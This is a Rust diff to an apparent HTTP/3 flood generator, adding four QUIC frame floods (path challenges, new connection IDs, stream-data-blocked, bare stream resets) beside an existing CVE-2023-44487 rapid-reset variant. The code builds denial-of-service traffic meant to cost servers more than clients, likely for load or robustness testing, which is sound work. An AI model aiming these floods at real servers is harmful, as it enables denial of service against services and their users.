@@ -1,6 +1,7 @@
 //! The same over HTTP/3: pieces of streams that cost the server more than the client.
 
 use super::{Flood, FloodKind, filler_line, kind, nothing};
+use dialogue::http3::packets;
 use dialogue::http3::write::{self, PREFIX};
 use dialogue::http3::{
     CANCELLED, CONTROL_STREAM, DATA, DECODER_STREAM, ENCODER_STREAM, HEADERS, MAX_PUSH_ID,
@@ -22,7 +23,7 @@ fn stream(number: u32) -> u64 {
     4 * u64::from(number)
 }
 
-pub(super) const KINDS: [FloodKind; 10] = [
+pub(super) const KINDS: [FloodKind; 14] = [
     // CVE-2023-44487 over QUIC
     kind("reset-streams", nothing, |flood, number| {
         let mut said = write::on(stream(number), flood.block, true);
@@ -63,7 +64,47 @@ pub(super) const KINDS: [FloodKind; 10] = [
         (0..FIELDS).for_each(|row| filler_line(number * FIELDS + row, &mut section));
         write::on(stream(number), &write::frame(HEADERS, &section), true)
     }),
+    kind("path-challenges", nothing, |_, number| {
+        let asked = (u64::from(number) | 1 << 63).to_be_bytes();
+        packet(&[&[PATH_CHALLENGE], &asked[..]].concat())
+    }),
+    kind("connection-ids", nothing, |_, number| {
+        // each has a number of its own, and ends all before it
+        let mut frame = vec![NEW_CONNECTION_ID];
+        let sequence = u64::from(number) + 1;
+        write::varint(sequence, &mut frame);
+        write::varint(sequence, &mut frame);
+        frame.push(8);
+        frame.extend_from_slice(&(sequence | 1 << 63).to_be_bytes());
+        frame.extend_from_slice(&[number as u8; 16]);
+        packet(&frame)
+    }),
+    kind(
+        "blocked-streams",
+        |flood, _| write::on(0, flood.block, false),
+        |_, number| packet(&frame_of(STREAM_DATA_BLOCKED, &[0, u64::from(number)])),
+    ),
+    kind("bare-resets", nothing, |_, number| {
+        packet(&frame_of(RESET_STREAM, &[stream(number), CANCELLED, 0]))
+    }),
 ];
+
+/// Types of QUIC's own frames (RFC 9000 section 19).
+const RESET_STREAM: u8 = 0x04;
+const STREAM_DATA_BLOCKED: u8 = 0x15;
+const NEW_CONNECTION_ID: u8 = 0x18;
+const PATH_CHALLENGE: u8 = 0x1a;
+
+fn frame_of(kind: u8, numbers: &[u64]) -> Vec<u8> {
+    let mut frame = vec![kind];
+    numbers.iter().for_each(|number| write::varint(*number, &mut frame));
+    frame
+}
+
+/// A packet with this frame, as it is.
+fn packet(frame: &[u8]) -> Vec<u8> {
+    packets::packet("none", frame).unwrap_or_default()
+}
 
 impl Flood<'_> {
     /// The field section of the plain request, of whose frame the head is left out.
